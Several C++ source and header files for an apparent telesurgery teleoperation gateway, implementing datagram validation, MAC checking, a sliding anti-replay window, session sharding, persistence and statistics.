
RG_THREAD(any) Result<ThresholdSketch> TeleopGateway::cohort_sketch() const {
  // Gather per-session sketches from every shard, then merge in globally
  // ascending session-id order — the fixed order that makes the cohort
  // sketch (and its digest) invariant under the shard count.
  std::vector<std::pair<std::uint32_t, ThresholdSketch>> all;
  for (const auto& shard : shards_) {
    auto sketches = shard->session_sketches();
    all.insert(all.end(), std::make_move_iterator(sketches.begin()),
               std::make_move_iterator(sketches.end()));
  }
  if (all.empty()) {
    return Error(ErrorCode::kNotReady, "cohort_sketch: no session has a calibration sketch");
  }
  std::sort(all.begin(), all.end(),
            [](const auto& a, const auto& b) { return a.first < b.first; });
  ThresholdSketch cohort(all.front().second.target_quantile());
  for (const auto& [id, sketch] : all) cohort.merge(sketch);
  return cohort;
}

RG_THREAD(pump) void TeleopGateway::drain() {
  // Signaled, not polled: each shard's worker bumps its completion count
  // as bursts finish and wait_idle() blocks on that CV until everything
  // submitted so far has been processed (inline shards just run their
  // pending work on this thread).
  for (auto& shard : shards_) shard->wait_idle();
}

RG_THREAD(pump) void TeleopGateway::shutdown() {
  {
    const MutexLock lock(table_mutex_);
    if (shut_down_) return;
    shut_down_ = true;
    for (auto& [ep, rec] : table_) {
      (void)shards_[rec.shard]->submit(
          ShardItem{ShardItem::Kind::kClose, rec.id, ItpBytes{}, 0});
      ++stats_.sessions_evicted;
      persist_close(rec.id);
      evicted_[ep] = rec;
    }
    table_.clear();
  }
  drain();
  for (auto& shard : shards_) shard->stop();
}

RG_THREAD(pump) void TeleopGateway::persist_close(std::uint32_t session_id) {
  if (config_.persist == nullptr) return;
  persist::StateOp op;
  op.kind = persist::StateOp::Kind::kClose;
  op.session = session_id;
  (void)config_.persist->submit(op);
}

RG_THREAD(pump) IngestVerdict TeleopGateway::ingest(const Endpoint& from,
                                                    std::span<const std::uint8_t> bytes,
                                                    std::uint64_t now_ms,
                                                    std::uint64_t ingest_ns) {
  const MutexLock lock(table_mutex_);

  // 0. Fail-safe latch: recovery could not verify the persisted state,
  // so no traffic is trusted until an operator intervenes.
  if (fail_safe_) return IngestVerdict::kEstopLatched;

  // 1. Frame size (+ MAC tag when the integrity retrofit is on).
  std::span<const std::uint8_t> itp = bytes;
  if (config_.require_mac) {
    if (bytes.size() != kMacFrameSize) return IngestVerdict::kBadSize;
    if (!verify_itp_frame(bytes, config_.mac_key)) return IngestVerdict::kBadMac;
    itp = bytes.first(kItpPacketSize);
  } else if (bytes.size() != kItpPacketSize) {
    return IngestVerdict::kBadSize;
  }

  // 2. ITP decode: checksum and undefined flag bits.
  const Result<ItpPacket> decoded = decode_itp(itp, config_.verify_checksum);
  if (!decoded) {
    return decoded.error().code() == ErrorCode::kMalformedFlags ? IngestVerdict::kBadFlags
                                                                : IngestVerdict::kBadChecksum;
  }

  // 3. Session admission (first valid datagram from an endpoint opens it).
  auto it = table_.find(from);
  if (it == table_.end()) {
    if (table_.size() >= config_.max_sessions) return IngestVerdict::kSessionLimit;
    SessionRecord rec;
    rec.id = next_session_id_++;
    rec.shard = rec.id % shards_.size();
    rec.last_seen_ms = now_ms;
    it = table_.emplace(from, rec).first;
    ++stats_.sessions_opened;
    (void)shards_[rec.shard]->submit(ShardItem{ShardItem::Kind::kOpen, rec.id, ItpBytes{}, 0});
    if (config_.persist != nullptr) {
      persist::StateOp op;
      op.kind = persist::StateOp::Kind::kOpen;
      op.session = rec.id;
      op.ip = from.ip;
      op.port = from.port;
      (void)config_.persist->submit(op);
    }
  }
  SessionRecord& rec = it->second;
  rec.last_seen_ms = now_ms;

  // 3b. Persisted E-STOP latch (restored from disk): the session exists
  // but accepts nothing until it is evicted and re-admitted fresh.
  if (rec.estop_latched) return IngestVerdict::kEstopLatched;

  // 4. Anti-replay sequence window.
  const ReplayWindow::Outcome seq = rec.window.check_and_update(decoded.value().sequence);
  if (seq.verdict != IngestVerdict::kAccepted) {
    switch (seq.verdict) {
      case IngestVerdict::kDuplicate: ++rec.counters.duplicates; break;
      case IngestVerdict::kReplayed: ++rec.counters.replayed; break;
      default: ++rec.counters.stale; break;
    }
    return seq.verdict;
  }
  rec.counters.lost_gap += seq.gap;
  if (seq.out_of_order) {
    ++rec.counters.out_of_order;
    ++stats_.out_of_order_accepted;
  }

  // 5. Hand off to the owning shard (full SPSC ring = backpressure).
  ShardItem item{ShardItem::Kind::kDatagram, rec.id, ItpBytes{}, ingest_ns};
  std::copy(itp.begin(), itp.end(), item.bytes.begin());
  if (!shards_[rec.shard]->submit(item)) {
    ++rec.counters.backpressure;
    return IngestVerdict::kBackpressure;
  }
  ++rec.counters.accepted;
  if (config_.persist != nullptr) {
    // Window note: coalesced per session by the plane's flusher, so the
    // WAL cost is ~1 record per dirty session per flush period.
    persist::StateOp op;
    op.kind = persist::StateOp::Kind::kWindow;
    op.session = rec.id;
    op.newest = rec.window.newest();
    op.mask = rec.window.mask();
    op.flag = rec.window.started() ? 1 : 0;
    (void)config_.persist->submit(op);
  }
  return IngestVerdict::kAccepted;
}

RG_THREAD(pump) void TeleopGateway::note(IngestVerdict v) {
  auto& reg = obs::Registry::global();
  reg.add(ingest_counter_);
  const MutexLock lock(table_mutex_);
  ++stats_.datagrams;
  switch (v) {
    case IngestVerdict::kAccepted:
      ++stats_.accepted;
      reg.add(accept_counter_);
      return;
    case IngestVerdict::kBadSize: ++stats_.rejected_size; break;
    case IngestVerdict::kBadMac: ++stats_.rejected_mac; break;
    case IngestVerdict::kBadChecksum: ++stats_.rejected_checksum; break;
    case IngestVerdict::kBadFlags: ++stats_.rejected_flags; break;
    case IngestVerdict::kDuplicate: ++stats_.rejected_duplicate; break;
    case IngestVerdict::kReplayed: ++stats_.rejected_replayed; break;
    case IngestVerdict::kStale: ++stats_.rejected_stale; break;
    case IngestVerdict::kSessionLimit: ++stats_.rejected_session_limit; break;
    case IngestVerdict::kBackpressure: ++stats_.backpressure_dropped; break;
    case IngestVerdict::kEstopLatched: ++stats_.rejected_estop; break;
  }
  reg.add(reject_counter_);
}

RG_THREAD(pump) void TeleopGateway::evict_idle(std::uint64_t now_ms) {
  const MutexLock lock(table_mutex_);
  for (auto it = table_.begin(); it != table_.end();) {
    const SessionRecord& rec = it->second;
    if (now_ms - rec.last_seen_ms >= config_.idle_timeout_ms) {
      (void)shards_[rec.shard]->submit(
          ShardItem{ShardItem::Kind::kClose, rec.id, ItpBytes{}, 0});
      ++stats_.sessions_evicted;
      persist_close(rec.id);
      evicted_[it->first] = rec;
      it = table_.erase(it);
    } else {
      ++it;
    }
  }
}

RG_THREAD(any) std::vector<ShardPipelineStats> TeleopGateway::shard_stats() const {
  std::vector<ShardPipelineStats> out;
  out.reserve(shards_.size());
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    out.push_back(ShardPipelineStats{i, shards_[i]->ticks(), shards_[i]->ring_full(),
                                     shards_[i]->queue_high_watermark()});
  }
  return out;
}

RG_THREAD(any) GatewayStats TeleopGateway::stats() const {
  const MutexLock lock(table_mutex_);
  GatewayStats out = stats_;
  out.active_sessions = table_.size();
  return out;
}

RG_THREAD(any) SessionStats TeleopGateway::snapshot_session(const Endpoint& ep,
                                                            const SessionRecord& rec,
                                                            bool active) const {
  SessionStats s;
  s.id = rec.id;
  s.endpoint = ep;
  s.active = active;
  s.last_seen_ms = rec.last_seen_ms;
  s.counters = rec.counters;
  if (const auto shard = shards_[rec.shard]->session_stats(rec.id)) s.shard = *shard;
  return s;
}

RG_THREAD(any) std::vector<SessionStats> TeleopGateway::sessions() const {
  std::vector<SessionStats> out;
  {
    const MutexLock lock(table_mutex_);
    out.reserve(table_.size() + evicted_.size());
    for (const auto& [ep, rec] : table_) out.push_back(snapshot_session(ep, rec, true));
    for (const auto& [ep, rec] : evicted_) out.push_back(snapshot_session(ep, rec, false));
  }
  std::sort(out.begin(), out.end(),
            [](const SessionStats& a, const SessionStats& b) { return a.id < b.id; });
  return out;
}

}  // namespace rg::svc
