// TeleopGateway: the network-facing teleoperation service.
//
// One gateway terminates the surgeon side of the paper's telesurgery
// link: it ingests ITP datagrams from a Transport (real UDP socket or
// deterministic loopback), classifies each one (size, MAC, checksum,
// flag bits, anti-replay window), admits sessions keyed by source
// endpoint, and multiplexes accepted traffic onto a fixed set of
// GatewayShards — each shard owning a disjoint subset of sessions and
// driving their server-side stacks (control + PLC + board + plant twin +
// detection pipeline) through the batched SoA kernels.
//
//   transport.poll() ──> pump thread: classify + session table
//                           │ (bounded per-shard queues)
//                           ▼
//                    shard workers: per-session mailboxes, rounds of
//                    batched control ticks, detection verdicts
//
// Determinism: shard assignment is session-id modulo shard count, one
// accepted datagram advances its session by exactly one control tick,
// and the batched kernels are bit-identical to scalar — so per-session
// verdict digests and counters are invariant under the shard count and
// the thread schedule (tests/test_gateway.cpp asserts this over
// LoopbackTransport).
//
// Time is caller-supplied (pump(now_ms)): tools pass steady-clock
// milliseconds, tests and benches pass synthetic time so idle eviction
// is reproducible.
#pragma once

#include <cstdint>
#include <memory>
#include <mutex>
#include <optional>
#include <unordered_map>
#include <vector>

#include "defense/mac.hpp"
#include "obs/metrics.hpp"
#include "svc/session.hpp"
#include "svc/shard.hpp"
#include "svc/transport.hpp"

namespace rg::svc {

struct GatewayConfig {
  SessionEngineConfig engine{};
  std::size_t shards = 2;
  /// Threaded shards (one worker each).  false = every shard advances on
  /// the pump thread — fully deterministic single-threaded execution.
  bool threaded = true;
  std::size_t max_sessions = 256;
  /// Sessions quiet for this long are evicted at the next pump.
  std::uint64_t idle_timeout_ms = 2000;
  std::size_t max_queue_per_shard = 8192;
  /// Ingest-side integrity retrofit: datagrams must be 38-byte MAC frames
  /// (30 ITP bytes + SipHash-2-4 tag) under `mac_key`.
  bool require_mac = false;
  MacKey mac_key = MacKey::from_seed(7);
  bool verify_checksum = true;
  /// Session plant seeds = base + session id.
  std::uint64_t plant_seed_base = 1;
};

/// Gateway-wide ingest accounting (monotonic; snapshot via stats()).
struct GatewayStats {
  std::uint64_t datagrams = 0;  ///< everything the transport delivered
  std::uint64_t accepted = 0;
  std::uint64_t rejected_size = 0;
  std::uint64_t rejected_mac = 0;
  std::uint64_t rejected_checksum = 0;
  std::uint64_t rejected_flags = 0;
  std::uint64_t rejected_duplicate = 0;
  std::uint64_t rejected_replayed = 0;
  std::uint64_t rejected_stale = 0;
  std::uint64_t rejected_session_limit = 0;
  std::uint64_t backpressure_dropped = 0;
  std::uint64_t out_of_order_accepted = 0;
  std::uint64_t sessions_opened = 0;
  std::uint64_t sessions_evicted = 0;
  std::uint64_t active_sessions = 0;
};

/// Merged per-session view: the pump side's ingest counters plus the
/// owning shard's screening stats.
struct SessionStats {
  std::uint32_t id = 0;
  Endpoint endpoint{};
  bool active = false;
  std::uint64_t last_seen_ms = 0;
  SessionCounters counters{};
  ShardSessionStats shard{};
};

class TeleopGateway {
 public:
  TeleopGateway(const GatewayConfig& config, Transport& transport);
  ~TeleopGateway();

  TeleopGateway(const TeleopGateway&) = delete;
  TeleopGateway& operator=(const TeleopGateway&) = delete;

  /// Drain up to `max` datagrams from the transport, classify and
  /// dispatch them, and run the (throttled) idle-eviction scan.  In
  /// inline mode this also advances every shard.  Returns the number of
  /// datagrams drained; call in a loop.
  std::size_t pump(std::uint64_t now_ms, std::size_t max = 1024);

  /// Block until every shard has drained its queue and finished its
  /// rounds (inline mode: runs them on this thread).
  void drain();

  /// Evict every active session (submits kClose) and drain.  Called by
  /// the destructor; idempotent.
  void shutdown();

  [[nodiscard]] GatewayStats stats() const;
  /// Every session ever admitted (active and evicted), ascending id.
  [[nodiscard]] std::vector<SessionStats> sessions() const;
  [[nodiscard]] std::size_t shard_count() const noexcept { return shards_.size(); }

 private:
  struct SessionRecord {
    std::uint32_t id = 0;
    std::size_t shard = 0;
    std::uint64_t last_seen_ms = 0;
    ReplayWindow window{};
    SessionCounters counters{};
  };

  /// Classify one datagram and (when accepted) enqueue it on its
  /// session's shard.  Pure admission: only session-scoped state changes
  /// here; the gateway-wide accounting lives in note().  Callers must not
  /// drop the verdict — the idiom is note(ingest(...)).
  [[nodiscard]] IngestVerdict ingest(const Endpoint& from, std::span<const std::uint8_t> bytes,
                                     std::uint64_t now_ms, std::uint64_t ingest_ns);
  void evict_idle(std::uint64_t now_ms);
  /// Fold one ingest verdict into the gateway-wide stats and metrics.
  void note(IngestVerdict v);
  [[nodiscard]] SessionStats snapshot_session(const Endpoint& ep, const SessionRecord& rec,
                                              bool active) const;

  GatewayConfig config_;
  Transport& transport_;
  std::vector<std::unique_ptr<GatewayShard>> shards_;

  mutable std::mutex table_mutex_;
  std::unordered_map<Endpoint, SessionRecord, EndpointHash> table_;
  std::unordered_map<Endpoint, SessionRecord, EndpointHash> evicted_;
  GatewayStats stats_{};
  std::uint32_t next_session_id_ = 1;
  std::uint64_t last_evict_scan_ms_ = 0;
  bool shut_down_ = false;

  obs::MetricId ingest_counter_;
  obs::MetricId accept_counter_;
  obs::MetricId reject_counter_;
};

}  // namespace rg::svc
