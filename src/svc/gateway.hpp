// TeleopGateway: the network-facing teleoperation service.
//
// One gateway terminates the surgeon side of the paper's telesurgery
// link: it ingests ITP datagrams from a Transport (real UDP socket or
// deterministic loopback), classifies each one (size, MAC, checksum,
// flag bits, anti-replay window), admits sessions keyed by source
// endpoint, and multiplexes accepted traffic onto a fixed set of
// GatewayShards — each shard owning a disjoint subset of sessions and
// driving their server-side stacks (control + PLC + board + plant twin +
// detection pipeline) through the batched SoA kernels.
//
//   transport.poll_batch() ──> pump thread: classify + session table
//                                 │ (lock-free SPSC ring per shard)
//                                 ▼
//                          shard workers: per-session mailboxes, rounds
//                          of batched control ticks, detection verdicts
//
// The pump drains the transport rx_batch datagrams at a time (one
// recvmmsg per batch on the UDP transport) and hands each accepted one
// to its shard's SPSC ring with a single release store; a full ring is
// the backpressure signal (kBackpressure + rg.gw.shard.<i>.ring_full).
//
// Determinism: shard assignment is session-id modulo shard count, one
// accepted datagram advances its session by exactly one control tick,
// and the batched kernels are bit-identical to scalar — so per-session
// verdict digests and counters are invariant under the shard count, the
// ingest batch size, and the thread schedule (tests/test_gateway.cpp
// asserts this over LoopbackTransport).
//
// Time is caller-supplied (pump(now_ms)): tools pass steady-clock
// milliseconds, tests and benches pass synthetic time so idle eviction
// is reproducible.
#pragma once

#include <cstdint>
#include <memory>
#include <mutex>
#include <optional>
#include <unordered_map>
#include <vector>

#include "common/thread_safety.hpp"
#include "defense/mac.hpp"
#include "obs/events.hpp"
#include "obs/metrics.hpp"
#include "persist/state_plane.hpp"
#include "svc/session.hpp"
#include "svc/shard.hpp"
#include "svc/transport.hpp"

namespace rg::svc {

/// Gateway-side calibration policy: per-session streaming sketches plus
/// periodic drift checks against the cohort's committed thresholds.
/// When a session's sketch quantile exceeds committed * max_ratio the
/// gateway raises one `cal_drift` safety event for it (latched until the
/// session closes), bumps rg.cal.drift_alarms, and counts it in
/// GatewayStats::drift_alarms — the operational signal that the rolled-
/// out calibration epoch no longer bounds live traffic (docs/thresholds.md).
struct CalibrationPolicy {
  bool enabled = false;
  /// The active epoch's thresholds (the drift baseline).
  DetectionThresholds committed{};
  /// Percentile compared against the committed thresholds.
  double percentile = kDefaultThresholdPercentile;
  /// Drift when observed quantile > committed * max_ratio on any axis.
  double max_ratio = 1.25;
  /// Sessions younger than this many valid predictions never drift.
  std::uint64_t min_samples = 512;
  /// Drift scans are throttled to this pump-time period.
  std::uint64_t scan_period_ms = 100;
};

struct GatewayConfig {
  SessionEngineConfig engine{};
  std::size_t shards = 2;
  /// Threaded shards (one worker each).  false = every shard advances on
  /// the pump thread — fully deterministic single-threaded execution.
  bool threaded = true;
  std::size_t max_sessions = 256;
  /// Sessions quiet for this long are evicted at the next pump.
  std::uint64_t idle_timeout_ms = 2000;
  std::size_t max_queue_per_shard = 8192;
  /// Datagrams the pump drains from the transport per poll_batch() call
  /// (one recvmmsg on the UDP transport).  Clamped to >= 1; batch size
  /// never changes verdicts, only syscall amortization (the determinism
  /// tests sweep it).
  std::size_t rx_batch = 64;
  /// Ingest-side integrity retrofit: datagrams must be 38-byte MAC frames
  /// (30 ITP bytes + SipHash-2-4 tag) under `mac_key`.
  bool require_mac = false;
  MacKey mac_key = MacKey::from_seed(7);
  bool verify_checksum = true;
  /// Session plant seeds = base + session id.
  std::uint64_t plant_seed_base = 1;
  /// Streaming calibration + drift alarms (off by default).
  CalibrationPolicy calibration{};
  /// Optional safety-event sink for `cal_drift` records (must outlive the
  /// gateway; nullptr = events dropped, counters still advance).
  obs::EventLog* events = nullptr;
  /// Expected pump cadence: |gap - period| between consecutive pump()
  /// entries feeds the rg.gw.pump.jitter_ns histogram (1 ms — the ITP
  /// control period — by default).
  std::uint64_t pump_period_ns = 1'000'000;
  /// A pump-to-pump gap beyond this counts one rg.gw.pump.deadline_miss
  /// (0 resolves to 2 * pump_period_ns at construction).
  std::uint64_t pump_deadline_ns = 0;
  /// How often pump() refreshes the sequenced snapshot the admin plane
  /// reads (latest_snapshot()); 0 disables publishing from pump().
  std::uint64_t stats_publish_period_ms = 250;
  /// Crash-consistent state plane (docs/persistence.md).  When set, the
  /// gateway restores the persisted session table at construction and
  /// submits session-lifecycle / anti-replay-window / E-STOP ops on the
  /// tick path (lock-free; the plane's flusher makes them durable).  A
  /// fail-safe plane (unverifiable artifacts) latches the whole gateway:
  /// every datagram is rejected kEstopLatched until an operator clears
  /// the state directory.  Must outlive the gateway.
  persist::StatePlane* persist = nullptr;
  /// Restored anti-replay windows advance by this many sequence numbers
  /// (mask fully set) to also reject replays of the *unsynced* tail —
  /// traffic accepted after the last durable flush.  Must be >= the peak
  /// per-session datagram rate times the plane's flush period.
  std::uint32_t rejoin_guard = 256;
};

/// Gateway-wide ingest accounting (monotonic; snapshot via stats()).
struct GatewayStats {
  std::uint64_t datagrams = 0;  ///< everything the transport delivered
  std::uint64_t accepted = 0;
  std::uint64_t rejected_size = 0;
  std::uint64_t rejected_mac = 0;
  std::uint64_t rejected_checksum = 0;
  std::uint64_t rejected_flags = 0;
  std::uint64_t rejected_duplicate = 0;
  std::uint64_t rejected_replayed = 0;
  std::uint64_t rejected_stale = 0;
  std::uint64_t rejected_session_limit = 0;
  std::uint64_t backpressure_dropped = 0;
  std::uint64_t out_of_order_accepted = 0;
  std::uint64_t sessions_opened = 0;
  std::uint64_t sessions_evicted = 0;
  std::uint64_t active_sessions = 0;
  std::uint64_t drift_checks = 0;  ///< session drift evaluations performed
  std::uint64_t drift_alarms = 0;  ///< sessions that raised a drift alarm
  std::uint64_t rejected_estop = 0;    ///< datagrams refused by a latched E-STOP
  std::uint64_t sessions_restored = 0; ///< sessions rebuilt from the state plane
};

/// Merged per-session view: the pump side's ingest counters plus the
/// owning shard's screening stats.
struct SessionStats {
  std::uint32_t id = 0;
  Endpoint endpoint{};
  bool active = false;
  std::uint64_t last_seen_ms = 0;
  SessionCounters counters{};
  ShardSessionStats shard{};
};

/// Per-shard pipeline health: tick progress plus ring backpressure.
/// ring_full counts datagram submissions refused because the shard's
/// SPSC ring was at capacity (each one is also a backpressure_dropped in
/// GatewayStats); queue_hwm is the deepest the ring has ever been.
struct ShardPipelineStats {
  std::size_t index = 0;
  std::uint64_t ticks = 0;
  std::uint64_t ring_full = 0;
  std::size_t queue_hwm = 0;
};

/// A sequenced, self-consistent copy of the gateway's observable state,
/// refreshed by pump() on its publish throttle.  The admin plane serves
/// exclusively from the latest published snapshot, so admin reads never
/// contend with the session table or shard state locks while traffic is
/// flowing.  `seq` increments per publish; `estop_sessions` counts active
/// sessions whose PLC has latched E-STOP (readiness gate).
struct GatewaySnapshot {
  std::uint64_t seq = 0;
  std::uint64_t now_ms = 0;
  GatewayStats stats{};
  std::vector<SessionStats> sessions;
  std::vector<ShardPipelineStats> shards;
  std::uint64_t estop_sessions = 0;
};

class TeleopGateway {
 public:
  TeleopGateway(const GatewayConfig& config, Transport& transport);
  ~TeleopGateway();

  TeleopGateway(const TeleopGateway&) = delete;
  TeleopGateway& operator=(const TeleopGateway&) = delete;

  /// Drain up to `max` datagrams from the transport in rx_batch-sized
  /// poll_batch() calls, classify and dispatch them, and run the
  /// (throttled) idle-eviction scan.  In inline mode this also advances
  /// every shard.  Returns the number of datagrams drained; call in a
  /// loop.
  RG_THREAD(pump) std::size_t pump(std::uint64_t now_ms, std::size_t max = 1024);

  /// Block until every shard has drained its ring and finished its
  /// rounds (signaled per shard — no sleep-polling; inline mode runs the
  /// rounds on this thread).  Pump-thread only, like pump().
  RG_THREAD(pump) void drain();

  /// Evict every active session (submits kClose) and drain.  Called by
  /// the destructor; idempotent.
  RG_THREAD(pump) void shutdown();

  [[nodiscard]] RG_THREAD(any) GatewayStats stats() const;
  /// True when the state plane failed recovery: the gateway is latched
  /// fail-safe and rejects every datagram (kEstopLatched).
  [[nodiscard]] RG_THREAD(any) bool fail_safe() const noexcept { return fail_safe_; }
  /// Every session ever admitted (active and evicted), ascending id.
  [[nodiscard]] RG_THREAD(any) std::vector<SessionStats> sessions() const;
  [[nodiscard]] RG_THREAD(any) std::size_t shard_count() const noexcept { return shards_.size(); }
  /// Ring/backpressure health per shard, ascending index.
  [[nodiscard]] RG_THREAD(any) std::vector<ShardPipelineStats> shard_stats() const;

  /// Merged calibration sketch over every *active* session, merged in
  /// globally ascending session-id order — invariant under the shard
  /// count.  kNotReady when calibration is disabled or no session has a
  /// sketch.  Call while the gateway is drained (the per-session sketches
  /// are copied under each shard's state lock).
  [[nodiscard]] RG_THREAD(any) Result<ThresholdSketch> cohort_sketch() const;

  /// Run one drift scan immediately (pump() calls this on its throttle;
  /// tests and drained gateways can force it).  Returns newly drifted
  /// sessions.
  RG_THREAD(pump) std::size_t scan_drift_now(std::uint64_t now_ms);

  /// Build and store a fresh GatewaySnapshot now (pump() does this on the
  /// stats_publish_period_ms throttle; tools can force one before the
  /// first pump or after a drain).
  RG_THREAD(pump) void publish_snapshot(std::uint64_t now_ms);

  /// The most recently published snapshot, or nullptr before the first
  /// publish.  Cheap shared_ptr copy — safe to call from any thread at
  /// any rate; the returned snapshot is immutable.
  [[nodiscard]] RG_THREAD(any) std::shared_ptr<const GatewaySnapshot> latest_snapshot() const;

 private:
  struct SessionRecord {
    std::uint32_t id = 0;
    std::size_t shard = 0;
    std::uint64_t last_seen_ms = 0;
    ReplayWindow window{};
    SessionCounters counters{};
    /// Restored from a persisted E-STOP latch: every further datagram
    /// from this endpoint is rejected kEstopLatched.
    bool estop_latched = false;
    /// The live PLC latch has already been submitted to the state plane.
    bool estop_persisted = false;
  };

  /// Classify one datagram and (when accepted) enqueue it on its
  /// session's shard.  Pure admission: only session-scoped state changes
  /// here; the gateway-wide accounting lives in note().  Callers must not
  /// drop the verdict — the idiom is note(ingest(...)).
  [[nodiscard]] RG_THREAD(pump) IngestVerdict ingest(const Endpoint& from,
                                                     std::span<const std::uint8_t> bytes,
                                                     std::uint64_t now_ms, std::uint64_t ingest_ns);
  RG_THREAD(pump) void evict_idle(std::uint64_t now_ms);
  /// Fold one ingest verdict into the gateway-wide stats and metrics.
  RG_THREAD(pump) void note(IngestVerdict v);
  /// Rebuild the session table from the state plane (constructor tail).
  RG_THREAD(pump) void restore_from_plane();
  RG_THREAD(pump) void persist_close(std::uint32_t session_id);
  [[nodiscard]] RG_THREAD(any) SessionStats snapshot_session(const Endpoint& ep,
                                                             const SessionRecord& rec,
                                                             bool active) const;

  GatewayConfig config_;
  Transport& transport_;
  std::vector<std::unique_ptr<GatewayShard>> shards_;
  /// Reused receive slots for the pump's batched drain (rx_batch of them
  /// — allocated once, never on the pump path).
  std::vector<RxDatagram> rx_slots_;

  mutable Mutex table_mutex_;
  std::unordered_map<Endpoint, SessionRecord, EndpointHash> table_ RG_GUARDED_BY(table_mutex_);
  std::unordered_map<Endpoint, SessionRecord, EndpointHash> evicted_ RG_GUARDED_BY(table_mutex_);
  GatewayStats stats_ RG_GUARDED_BY(table_mutex_){};
  std::uint32_t next_session_id_ RG_GUARDED_BY(table_mutex_) = 1;
  std::uint64_t last_evict_scan_ms_ = 0;
  std::uint64_t last_drift_scan_ms_ = 0;
  bool shut_down_ RG_GUARDED_BY(table_mutex_) = false;
  /// State-plane recovery failed: reject everything (see GatewayConfig).
  bool fail_safe_ = false;
  /// Restored sessions carry no wall-clock; the first pump() stamps them
  /// so the idle-eviction scan doesn't reap them before traffic rejoins.
  bool restored_need_touch_ = false;

  // Pump-cadence SLO state (touched only by the pump thread).
  std::uint64_t last_pump_ns_ = 0;
  std::uint64_t last_publish_ms_ = 0;
  std::uint64_t publish_seq_ = 0;

  mutable Mutex snapshot_mutex_;
  std::shared_ptr<const GatewaySnapshot> snapshot_ RG_GUARDED_BY(snapshot_mutex_);

  obs::MetricId ingest_counter_;
  obs::MetricId accept_counter_;
  obs::MetricId reject_counter_;
  obs::MetricId drift_check_counter_;
  obs::MetricId drift_alarm_counter_;
  obs::MetricId deadline_miss_counter_;
  obs::MetricId jitter_hist_;
  obs::MetricId rx_batch_hist_;
};

}  // namespace rg::svc
