// Gateway session vocabulary: ingest classification, the anti-replay
// sequence window, per-session counters, and the authenticated datagram
// frame.
//
// A session is keyed by its source endpoint.  Its lifecycle is
//
//   (first valid datagram) --> kActive --(idle timeout)--> evicted
//
// where "valid" means the datagram survived every ingest check: frame
// size, MAC (when required), ITP decode (checksum + flag bits), and the
// sequence window.  The window is a DTLS/IPsec-style sliding bitmap over
// the highest sequence seen: duplicates and replays of already-accepted
// numbers are rejected and counted, late-but-new packets inside the
// window are accepted (UDP reorders), and anything older than the window
// is stale.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <string_view>

#include "defense/mac.hpp"
#include "net/itp_packet.hpp"

namespace rg::svc {

/// Classification of one ingested datagram.  Everything except kAccepted
/// is a rejection, counted under its own name.
enum class IngestVerdict : std::uint8_t {
  kAccepted,
  kBadSize,        ///< not a 30-byte ITP frame (or 38-byte MAC frame)
  kBadMac,         ///< MAC tag verification failed
  kBadChecksum,    ///< ITP checksum mismatch
  kBadFlags,       ///< undefined ITP flag bits set
  kDuplicate,      ///< sequence == newest accepted
  kReplayed,       ///< sequence inside the window but already accepted
  kStale,          ///< sequence older than the window
  kSessionLimit,   ///< table full, admission refused
  kBackpressure,   ///< shard queue full, datagram dropped
  kEstopLatched,   ///< session is E-STOP latched (possibly restored from disk)
};

[[nodiscard]] constexpr std::string_view to_string(IngestVerdict v) noexcept {
  switch (v) {
    case IngestVerdict::kAccepted: return "accepted";
    case IngestVerdict::kBadSize: return "bad_size";
    case IngestVerdict::kBadMac: return "bad_mac";
    case IngestVerdict::kBadChecksum: return "bad_checksum";
    case IngestVerdict::kBadFlags: return "bad_flags";
    case IngestVerdict::kDuplicate: return "duplicate";
    case IngestVerdict::kReplayed: return "replayed";
    case IngestVerdict::kStale: return "stale";
    case IngestVerdict::kSessionLimit: return "session_limit";
    case IngestVerdict::kBackpressure: return "backpressure";
    case IngestVerdict::kEstopLatched: return "estop_latched";
  }
  return "unknown";
}

/// Sliding-bitmap anti-replay window (64 sequence numbers wide), the
/// technique DTLS (RFC 6347 §4.1.2.6) and IPsec use.  Bit k of the mask
/// marks "newest - k" as already accepted.
class ReplayWindow {
 public:
  static constexpr std::uint32_t kWindow = 64;

  struct Outcome {
    IngestVerdict verdict = IngestVerdict::kAccepted;
    std::uint32_t gap = 0;        ///< sequence numbers skipped (presumed lost)
    bool out_of_order = false;    ///< accepted but older than the newest
  };

  [[nodiscard]] Outcome check_and_update(std::uint32_t seq) noexcept {
    Outcome out;
    if (!any_) {
      any_ = true;
      newest_ = seq;
      mask_ = 1;
      return out;
    }
    if (seq > newest_) {
      const std::uint32_t advance = seq - newest_;
      out.gap = advance - 1;
      mask_ = advance >= kWindow ? 0 : mask_ << advance;
      mask_ |= 1;
      newest_ = seq;
      return out;
    }
    const std::uint32_t age = newest_ - seq;
    if (age == 0) {
      out.verdict = IngestVerdict::kDuplicate;
      return out;
    }
    if (age >= kWindow) {
      out.verdict = IngestVerdict::kStale;
      return out;
    }
    const std::uint64_t bit = 1ULL << age;
    if ((mask_ & bit) != 0) {
      out.verdict = IngestVerdict::kReplayed;
      return out;
    }
    mask_ |= bit;
    out.out_of_order = true;
    return out;
  }

  [[nodiscard]] std::uint32_t newest() const noexcept { return newest_; }
  [[nodiscard]] bool started() const noexcept { return any_; }
  [[nodiscard]] std::uint64_t mask() const noexcept { return mask_; }

  /// Restore a persisted window, advancing `newest` by `guard` with the
  /// mask fully set.  The guard covers sequence numbers that may have
  /// been accepted after the last durable flush: every seq at or below
  /// newest+guard is rejected as replayed/stale, so a rejoining attacker
  /// replaying the unsynced tail gets nothing.  Legitimate traffic
  /// re-syncs once its sequence passes the guard band.
  void restore(std::uint32_t newest, std::uint64_t mask, bool started,
               std::uint32_t guard) noexcept {
    any_ = started;
    if (!started) {
      newest_ = 0;
      mask_ = 0;
      return;
    }
    newest_ = newest + guard;
    mask_ = guard == 0 ? mask : ~0ULL;
  }

 private:
  std::uint32_t newest_ = 0;
  std::uint64_t mask_ = 0;
  bool any_ = false;
};

/// Per-session ingest + screening counters.  Ingest fields are written by
/// the gateway's pump thread; tick/alarm fields by the owning shard.  The
/// gateway merges both views in its stats snapshot.
struct SessionCounters {
  std::uint64_t accepted = 0;
  std::uint64_t duplicates = 0;
  std::uint64_t replayed = 0;
  std::uint64_t stale = 0;
  std::uint64_t out_of_order = 0;
  std::uint64_t lost_gap = 0;      ///< sequence numbers never seen
  std::uint64_t backpressure = 0;  ///< accepted but dropped at the shard queue
};

// --- authenticated gateway frame -------------------------------------------
// With MAC required, a datagram is the 30 ITP bytes followed by the
// 8-byte little-endian SipHash-2-4 tag over them (defense/mac.hpp): the
// ingest-side half of the paper's integrity-retrofit comparison.

